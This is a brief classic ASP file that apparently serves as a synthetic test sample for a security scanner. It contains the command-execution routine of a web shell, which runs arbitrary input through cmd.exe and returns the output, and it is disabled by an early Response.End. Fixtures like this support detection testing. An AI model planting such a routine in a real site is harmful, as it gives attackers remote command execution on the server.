<%
' synthetic test sample for breachscan: command module of a shell client payload (no request parsing of its own). Inert: Response.End first.
Response.End
Sub RunCmd(c)
  Dim sh, fso
  Set fso = CreateObject("Scripting.FileSystemObject")
  Set sh = CreateObject("WScript.Shell")
  Response.Write sh.Exec("cmd.exe /c " & c).StdOut.ReadAll()
End Sub
%>
